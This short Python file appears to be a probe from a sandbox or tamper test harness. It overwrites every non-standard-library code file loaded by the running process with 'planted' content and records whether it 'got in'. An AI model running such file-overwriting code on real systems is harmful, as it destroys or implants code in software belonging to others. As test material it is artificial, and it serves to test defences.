"""Writes over every file of code that the process runs, the interpreter's library left out."""

import sys


def once(tools):
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        is_code = path.endswith((".py", ".pyc")) and "/lib/python" not in path
        if is_code and tools.write(path, tools.plant()) and not tools.is_own(path):
            tools.witness(got_in=True)
    tools.witness()
